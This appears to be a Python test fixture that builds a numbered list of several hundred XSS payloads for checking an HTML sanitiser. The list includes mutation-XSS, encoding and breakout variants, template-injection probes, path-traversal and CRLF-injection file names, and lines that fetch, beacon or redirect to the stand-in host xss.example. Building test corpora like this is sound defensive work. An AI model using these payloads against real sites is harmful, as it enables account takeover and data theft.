"""A corpus of hostile inputs for the XSS tests, written from public knowledge
of how markup gets injected: script tags, event handlers, javascript: and
data: URLs, SVG and MathML, mutation XSS (markup a sanitiser and a browser
parse differently), character encodings, attribute and template breakouts,
CSS, and bidirectional text.

Each payload carries its number: a script that runs calls alert(N) (or
prompt/confirm, print, a fetch to //xss.example/N), so a failing test names
the payload. Nothing here is executed by the tests themselves.
"""
from __future__ import annotations

PROBE_HOST = "xss.example"


def _numbered(templates: list[str]) -> list[str]:
    return [template.replace("{n}", str(number)) for number, template in enumerate(templates, start=1)]


_SCRIPT_TAGS = [
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=//xss.example/{n}.js></script>",
    "<script>alert`{n}`</script>",
    "<script/x>alert({n})</script>",
    "<script\n>alert({n})</script>",
    "<script type=module>alert({n})</script>",
    "<script>/*</script><script>*/alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "</noscript><script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "<<script>alert({n});//<</script>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<script>eval(atob('YWxlcnQoMSk='));alert({n})</script>",
    "<script>window['al'+'ert']({n})</script>",
    "<script>setTimeout('alert({n})')</script>",
    "<script>new Function('alert({n})')()</script>",
    "<script>import('//xss.example/{n}.mjs')</script>",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=alert({n})>",
    "<img src=x onerror=\"alert({n})\">",
    "<img/src=x/onerror=alert({n})>",
    "<img src=x:x onerror=alert({n})//",
    "<IMG SRC=x OnErRoR=alert({n})>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;({n})>",
    "<img src onerror=alert({n})>",
    "<image src=x onerror=alert({n})>",
    "<body onload=alert({n})>",
    "<body onpageshow=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "<keygen autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})>",
    "<audio src=x onerror=alert({n})>",
    "<video src=x onerror=alert({n})>",
    "<iframe onload=alert({n})>",
    "<object data=x onerror=alert({n})>",
    "<marquee onstart=alert({n})>x</marquee>",
    "<div onmouseover=alert({n})>hover</div>",
    "<a onmouseover=alert({n})>hover</a>",
    "<p onclick=alert({n})>click</p>",
    "<form><button formaction=javascript:alert({n})>x</button></form>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert({n})>",
    "<p style=transition:color&#32;1s onttransitionend=alert({n})>",
    "<div tabindex=1 autofocus onfocusin=alert({n})>",
    "<link rel=stylesheet href=x onerror=alert({n})>",
    "<table background=x onerror=alert({n})>",
    "<isindex type=image src=x onerror=alert({n})>",
    "<embed src=x onerror=alert({n})>",
    "<img src=x onerror=alert({n}) onerror=alert({n})>",
    "<img src=\"x` `<script>alert({n})</script>\"` `>",
    "<img src=x onerror=window.onerror=alert;throw {n}>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=alert({n}) attributeName=x to=1>",
    "<x contenteditable onblur=alert({n})>lose focus</x>",
]

_URLS = [
    "<a href=javascript:alert({n})>link</a>",
    "<a href=\"javascript:alert({n})\">link</a>",
    "<a href=JaVaScRiPt:alert({n})>link</a>",
    "<a href=\"&#106;avascript:alert({n})\">link</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;script:alert({n})\">link</a>",
    "<a href=\"java&#x09;script:alert({n})\">link</a>",
    "<a href=\"java&#x0A;script:alert({n})\">link</a>",
    "<a href=\" javascript:alert({n})\">link</a>",
    "<a href=\"javascript&colon;alert({n})\">link</a>",
    "<a href=\"data:text/html,<script>alert({n})</script>\">link</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}\">link</a>",
    "<iframe src=javascript:alert({n})>",
    "<iframe src=\"data:text/html,<script>alert({n})</script>\">",
    "<iframe srcdoc=\"<script>alert({n})</script>\">",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert({n})&gt;\">",
    "<embed src=\"javascript:alert({n})\">",
    "<object data=\"javascript:alert({n})\">",
    "<object data=\"data:text/html,<script>alert({n})</script>\">",
    "<form action=javascript:alert({n})><input type=submit>",
    "<isindex action=javascript:alert({n}) type=submit>",
    "<base href=javascript:alert({n})//>",
    "<base href=//xss.example/{n}/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert({n})\">",
    "<meta http-equiv=refresh content=\"0;url=//xss.example/{n}\">",
    "<link rel=import href=//xss.example/{n}>",
    "<img src=//xss.example/{n}.png>",
    "<img srcset=\"//xss.example/{n}.png 1x\">",
    "<video poster=//xss.example/{n}.png>",
    "<input type=image src=//xss.example/{n}.png>",
    "<a href=vbscript:alert({n})>link</a>",
    "javascript:alert({n})",
    "JaVaScRiPt:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert({n})//'>",
    "data:text/html,<script>alert({n})</script>",
    "https://xss.example/{n}\"><script>alert({n})</script>",
    "//xss.example/{n}",
]

_SVG_MATHML = [
    "<svg><script>alert({n})</script></svg>",
    "<svg><script href=//xss.example/{n}.js /></svg>",
    "<svg><script xlink:href=data:,alert({n}) /></svg>",
    "<svg><a xlink:href=javascript:alert({n})><text y=20>x</text></a></svg>",
    "<svg><a href=javascript:alert({n})><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='alert({n})'/></svg>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert({n})></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<svg><title><img src=x onerror=alert({n})></title></svg>",
    "<svg><desc><img src=x onerror=alert({n})></desc></svg>",
    "<svg><animate attributeName=href values=javascript:alert({n}) /><a><text y=20>x</text></a></svg>",
    "<svg><image href=x onerror=alert({n}) />",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert({n})</handler>",
    "<math><a xlink:href=javascript:alert({n})>x</a></math>",
    "<math href=javascript:alert({n})>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert({n})>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<math><mi xlink:href=data:x,<script>alert({n})</script>>x</mi></math>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert({n})>\">",
    "<svg><p><style><img src=x onerror=alert({n})>",
    "<math><style><img src=x onerror=alert({n})></style></math>",
]

_MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert({n})>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert({n})>\"></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert({n})>\"></noframes>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert({n})>\"></xmp>",
    "<iframe><img title=\"</iframe><img src=x onerror=alert({n})>\"></iframe>",
    "<title><img title=\"</title><img src=x onerror=alert({n})>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert({n})>\"></textarea>",
    "<style><img title=\"</style><img src=x onerror=alert({n})>\"></style>",
    "<template><img src=x onerror=alert({n})></template>",
    "<template><script>alert({n})</script></template>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<!-- --!><img src=x onerror=alert({n})> -->",
    "<!--<img src=\"--><img src=x onerror=alert({n})//\">",
    "<![CDATA[><img src=x onerror=alert({n})>]]>",
    "<?xml-stylesheet ><img src=x onerror=alert({n})>?>",
    "<a title=\"a`b\"><img src=x onerror=alert({n})>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert({n})>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert({n})>\">",
    "<table><td><select><template><style></select><img src=x onerror=alert({n})>",
    "<div id=\"1\"><form id=\"test\"></form><button form=\"test\" formaction=\"javascript:alert({n})\">X</button>",
    "<a href=\"#\" id=x>x</a><style>#x{}</style><img src=x onerror=alert({n})>",
    "<listing>&lt;img src=x onerror=alert({n})&gt;</listing>",
    "<plaintext><img src=x onerror=alert({n})>",
    "<object><param name=src value=javascript:alert({n})></object>",
    "<div style=\"x:expression(alert({n}))\">",
]

_ENCODINGS = [
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert({n})&#x3E;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "%253Cscript%253Ealert({n})%253C/script%253E",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert({n})\\x3e",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "\u003cimg src=x onerror=alert({n})\u003e",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "<scr\u0000ipt>alert({n})</scr\u0000ipt>",
    "<img src=x onerror\u000c=alert({n})>",
    "<img\u000bsrc=x\u000bonerror=alert({n})>",
    "<img src=x on\u200berror=alert({n})>",
    "<\u0131mg src=x onerror=alert({n})>",
    "<img src=x onerror=\\u0061lert({n})>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;{n}&#x29;>",
    "<img src=x onerror=&#0000097&#0000108&#0000101&#0000114&#0000116({n})>",
    "<a href=\"jav&#x61;script:alert({n})\">x</a>",
    "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert({n})\">x</a>",
    "\xc0\xbcscript\xc0\xbealert({n})\xc0\xbc/script\xc0\xbe",
    "<img src=x onerror=eval('\\x61lert({n})')>",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,{n},41))>",
    "<img src=x onerror=top[/al/.source+/ert/.source]({n})>",
    "<img src=x onerror=(alert)({n})>",
]

_BREAKOUTS = [
    "\"><script>alert({n})</script>",
    "'><script>alert({n})</script>",
    "\" onmouseover=\"alert({n})",
    "' onmouseover='alert({n})",
    "\" autofocus onfocus=\"alert({n})",
    "' autofocus onfocus='alert({n})",
    "\"><img src=x onerror=alert({n})>",
    "` onmouseover=alert({n}) `",
    "\"/><svg onload=alert({n})>",
    "'-alert({n})-'",
    "\";alert({n});//",
    "';alert({n});//",
    "</script><img src=x onerror=alert({n})>",
    "\\\";alert({n});//",
    "\" style=\"background:url(javascript:alert({n}))",
    "\" formaction=\"javascript:alert({n})",
    "\"></option></select><img src=x onerror=alert({n})>",
    "\"></a><img src=x onerror=alert({n})>",
    "</td></tr></table><img src=x onerror=alert({n})>",
    "</li></ul><img src=x onerror=alert({n})>",
    "</label><img src=x onerror=alert({n})>",
    "</h1><img src=x onerror=alert({n})>",
    "</code></pre><img src=x onerror=alert({n})>",
    "]]><img src=x onerror=alert({n})>",
    "--><img src=x onerror=alert({n})>",
]

_TEMPLATES = [
    "{{7*7}}<img src=x onerror=alert({n})>",
    "{{ config }}{{n}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}<script>alert({n})</script>{% endraw %}",
    "{{ '<script>alert({n})</script>' | safe }}",
    "${alert({n})}",
    "#{alert({n})}",
    "<%= alert({n}) %>",
    "{{constructor.constructor('alert({n})')()}}",
    "[[${alert({n})}]]",
    "%(n)s %s %d {0} <img src=x onerror=alert({n})>",
    "[link](javascript:alert({n}))",
    "![img](x\"onerror=\"alert({n}))",
    "<a href=\"\" onclick=\"alert({n})\">**markdown**</a>",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {n}",
]

_CSS = [
    "<style>*{background:url(//xss.example/{n}.png)}</style>",
    "<style>@import '//xss.example/{n}.css';</style>",
    "<link rel=stylesheet href=//xss.example/{n}.css>",
    "<div style=\"background-image:url(javascript:alert({n}))\">",
    "<div style=\"background:url(//xss.example/{n}.png)\">",
    "<div style=\"behavior:url(//xss.example/{n}.htc)\">",
    "<style>body{-moz-binding:url(//xss.example/{n}.xml#x)}</style>",
    "<style>input[value^=a]{background:url(//xss.example/{n})}</style>",
    "<div style=\"width:expression(alert({n}))\">",
    "<span style=\"font-family:'</style><script>alert({n})</script>'\">",
]

_BIDI_AND_TEXT = [
    "\u202egnp.exe<img src=x onerror=alert({n})>",
    "\u202e<script>alert({n})</script>\u202c",
    "\u2066<img src=x onerror=alert({n})>\u2069",
    "report\u202ecod.exe {n}",
    "\u200f\u200e<svg onload=alert({n})>",
    "\ufeff<script>alert({n})</script>",
    "\u0000<script>alert({n})</script>",
    "\r\n\r\n<script>alert({n})</script>",
    "a" * 300 + "<script>alert({n})</script>",
    "\U0001f600<img src=x onerror=alert({n})>\U0001f600",
]

_FILE_NAMES = [
    "<img src=x onerror=alert({n})>.png",
    "\"><svg onload=alert({n})>.pdf",
    "../../../etc/passwd<script>alert({n})</script>",
    "..\\..\\windows\\win.ini\"><img src=x onerror=alert({n})>.txt",
    "file\u202etxt.exe<img src=x onerror=alert({n})>",
    "javascript:alert({n}).txt",
    "CON<script>alert({n})</script>.txt",
    "a\r\nContent-Type: text/html\r\n\r\n<script>alert({n})</script>.txt",
    "name\";filename*=UTF-8''<script>alert({n})</script>.txt",
    "%3Cscript%3Ealert({n})%3C%2Fscript%3E.txt",
]

_DIALOG_VARIANTS = [
    "<img src=x onerror=prompt({n})>",
    "<img src=x onerror=confirm({n})>",
    "<img src=x onerror=print({n})>",
    "<img src=x onerror=fetch('//xss.example/{n}')>",
    "<img src=x onerror=navigator.sendBeacon('//xss.example/{n}')>",
    "<img src=x onerror=location='//xss.example/{n}'>",
    "<img src=x onerror=document.write('<img src=//xss.example/{n}>')>",
    "<img src=x onerror=new Image().src='//xss.example/{n}'>",
    "<svg onload=top.location='//xss.example/{n}'>",
    "<img src=x onerror=document.body.innerHTML='{n}'>",
]

FAMILIES = {
    "script tags": _SCRIPT_TAGS,
    "event handlers": _EVENT_HANDLERS,
    "javascript: and data: URLs": _URLS,
    "SVG and MathML": _SVG_MATHML,
    "mutation XSS": _MUTATION,
    "encodings": _ENCODINGS,
    "attribute and context breakouts": _BREAKOUTS,
    "template and markdown injection": _TEMPLATES,
    "CSS": _CSS,
    "bidi and odd text": _BIDI_AND_TEXT,
    "file names": _FILE_NAMES,
    "other sinks": _DIALOG_VARIANTS,
}

PAYLOADS: list[str] = _numbered([template for family in FAMILIES.values() for template in family])


def chunks(payloads: list[str], most_chars: int) -> list[str]:
    """The payloads joined by newlines into texts of at most most_chars each."""
    out, current = [], ""
    for payload in payloads:
        candidate = f"{current}\n{payload}" if current else payload
        if len(candidate) > most_chars and current:
            out.append(current)
            candidate = payload
        current = candidate
    if current:
        out.append(current)
    return out


def short(payloads: list[str], most_chars: int) -> list[str]:
    """Each payload cut to most_chars (for names), keeping its number in reach."""
    return [payload[:most_chars] for payload in payloads]


assert len(PAYLOADS) >= 200, len(PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS)
